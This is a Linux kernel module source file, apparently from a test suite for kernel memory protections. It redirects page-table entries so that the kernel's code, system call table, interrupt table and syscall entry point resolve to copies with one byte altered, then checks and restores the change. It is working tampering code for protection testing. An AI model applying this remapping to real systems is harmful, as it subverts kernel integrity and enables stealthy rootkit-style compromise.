// SPDX-License-Identifier: GPL-2.0-only
/*
 * Page-oriented programming: what the kernel protects stays as it is, and its address leads to a copy with
 * one byte changed, by an entry of the page tables: of any level, in those that all programs share, in those of
 * one program, in what of them programs run with.
 */
#include <linux/delay.h>
#include <linux/gfp.h>
#include <linux/mm.h>
#include <linux/sched.h>
#include <linux/string.h>
#include <asm/cpufeature.h>
#include <asm/desc.h>
#include <asm/pgtable.h>

#include "attack.h"

static unsigned int hold;
module_param(hold, uint, 0400);
MODULE_PARM_DESC(hold, "milliseconds for which it lasts");

#define FRAME		0x000ffffffffff000ull
#define COPIES		4

/**
 * struct way - the entries that lead to an address
 * @address: what they lead to
 * @top: level of the first
 * @leaf: level of the last
 * @entry: each, by level
 */
struct way {
	u8 *address;
	int top, leaf;
	u64 *entry[6];
};

static int shift(int level)
{
	return 12 + 9 * (level - 1);
}

/* Follows the tables from @top, the physical address of the first. Returns false if they end before. */
static bool find(struct way *p, u64 top, void *address)
{
	int level = pgtable_l5_enabled() ? 5 : 4;

	p->address = address;
	for (p->top = level;; level--) {
		p->entry[level] = (u64 *)__va(top) + ((u64)address >> shift(level)) % 512;
		if (!(*p->entry[level] & _PAGE_PRESENT))
			return false;
		p->leaf = level;
		if (level == 1 || *p->entry[level] & _PAGE_PSE)
			return true;
		top = *p->entry[level] & FRAME;
	}
}

static u64 kernel_top(void)
{
	return slow_virt_to_phys((void *)attack_symbol("init_top_pgt"));
}

static u64 own_top(void)
{
	return __pa(current->mm->pgd);
}

/* Copies of tables and of the page itself, the last one with a byte changed; NULL where there is none. */
struct copies {
	void *page[COPIES + 2];
	int order;
};

static void drop(struct copies *c)
{
	int level;

	for (level = 0; level < COPIES + 2; level++)
		free_pages((unsigned long)c->page[level], level ? 0 : c->order);
}

/* What the entry at @level is to be, so that all below it is a copy; 0 if there is no memory. */
static u64 forge(struct copies *c, const struct way *p, int level)
{
	unsigned long size = 1ul << shift(p->leaf), offset = (unsigned long)p->address % size;
	u64 below;
	int i;

	c->order = shift(p->leaf) - PAGE_SHIFT;
	c->page[0] = (void *)__get_free_pages(GFP_KERNEL | __GFP_NOWARN, c->order);
	if (!c->page[0])
		return 0;
	memcpy(c->page[0], p->address - offset, size);
	((u8 *)c->page[0])[offset] ^= 1;
	below = (*p->entry[p->leaf] & ~(FRAME & ~(size - 1))) | __pa(c->page[0]);
	for (i = p->leaf; i < level; i++) {
		c->page[i] = (void *)__get_free_page(GFP_KERNEL);
		if (!c->page[i])
			return 0;
		memcpy(c->page[i], (void *)((u64)p->entry[i] & PAGE_MASK), PAGE_SIZE);
		((u64 *)c->page[i])[offset_in_page(p->entry[i]) / 8] = below;
		below = (*p->entry[i + 1] & ~FRAME) | __pa(c->page[i]);
	}
	return below;
}

static u64 set_entry(u64 *entry, u64 value)
{
	u64 vector = ATTACK_NO_FAULT;

	ATTACK_TRY(vector, "movq %[v], (%[to])", [to] "r" (entry), [v] "r" (value));
	return vector;
}

/* What the address shows, by the tables at @top, or by its entry alone where this code is not mapped. */
static u8 look(const struct way *p, u64 top, bool is_users)
{
	unsigned long cr3;
	u8 byte;

	if (is_users)
		return 0;
	cr3 = __read_cr3();
	if (top != (cr3 & FRAME))
		asm volatile("mov %0, %%cr3" : : "r" (top) : "memory");
	asm volatile("invlpg (%0)" : : "r" (p->address) : "memory");
	byte = READ_ONCE(*p->address);
	if (top != (cr3 & FRAME))
		asm volatile("mov %0, %%cr3" : : "r" (cr3) : "memory");
	asm volatile("invlpg (%0)" : : "r" (p->address) : "memory");
	return byte;
}

/* Nobody else is to run on this CPU meanwhile, unless it is to be looked at for a while. */
static enum verdict exchange(const struct way *p, int level, u64 top, bool is_users, u64 value)
{
	u64 *entry = p->entry[level], old = *entry, vector;
	u8 before = READ_ONCE(*p->address), now;
	unsigned long flags;
	bool changed;

	local_irq_save(flags);
	vector = set_entry(entry, value);
	changed = READ_ONCE(*entry) == value;
	now = look(p, top, is_users);
	if (hold) {
		local_irq_restore(flags);
		mdelay(hold);
		local_irq_save(flags);
	}
	if (changed)
		set_entry(entry, old);
	look(p, top, is_users);
	local_irq_restore(flags);
	if (!changed)
		return now == before || is_users ? attack_fault(vector) : ATTACK_HALF;
	return READ_ONCE(*entry) == old && (is_users || now == (before ^ 1)) ? ATTACK_DONE : ATTACK_HALF;
}

/* @level 0 is that of the page itself, 9 the top. */
static enum verdict remap(u64 top, void *address, int level, bool is_users)
{
	struct copies c = { };
	enum verdict v = ATTACK_FAILED;
	struct way p;
	u64 value;

	if (!address || !find(&p, top, address))
		return ATTACK_FAILED;
	level = clamp(level, p.leaf, p.top);
	value = forge(&c, &p, level);
	if (value)
		v = exchange(&p, level, top, is_users, value);
	drop(&c);
	return v;
}

static enum verdict text(void)
{
	return remap(kernel_top(), attack_cold_text(), 0, false);
}

static enum verdict middle(void)
{
	return remap(kernel_top(), attack_cold_text(), 3, false);
}

static enum verdict top(void)
{
	return remap(kernel_top(), attack_cold_text(), 9, false);
}

static enum verdict constant(void)
{
	return remap(kernel_top(), (void *)attack_symbol("linux_banner"), 0, false);
}

static enum verdict syscalls(void)
{
	return remap(kernel_top(), (void *)attack_symbol("sys_call_table"), 3, false);
}

static enum verdict idt(void)
{
	struct desc_ptr idtr;

	store_idt(&idtr);
	return remap(kernel_top(), (void *)idtr.address + 31 * sizeof(gate_desc), 0, false);
}

/* The code that enters the kernel, as programs run with it. Other CPUs may enter by the copy. */
static enum verdict user(void)
{
	u8 *entry = (u8 *)attack_symbol("entry_SYSCALL_64");

	if (!boot_cpu_has(X86_FEATURE_PTI))
		return ATTACK_SKIPPED;
	return remap(kernel_top() + PAGE_SIZE, entry ? entry - 8 : NULL, 0, true);
}

static enum verdict process(void)
{
	return remap(own_top(), attack_cold_text(), 9, false);
}

static enum verdict process_user(void)
{
	u8 *entry = (u8 *)attack_symbol("entry_SYSCALL_64");

	if (!boot_cpu_has(X86_FEATURE_PTI))
		return ATTACK_SKIPPED;
	return remap(own_top() + PAGE_SIZE, entry ? entry - 8 : NULL, 9, true);
}

static enum verdict module(void)
{
	return remap(kernel_top(), (void *)attack_everywhere, 0, false);
}

static const struct attack_choice choices[] = {
	{ "text", text },
	{ "middle", middle },
	{ "top", top },
	{ "constant", constant },
	{ "syscalls", syscalls },
	{ "idt", idt },
	{ "user", user },
	{ "process", process },
	{ "process_user", process_user },
	{ "module", module },
};

ATTACK_CHOICE(choices, "page tables that lead elsewhere");
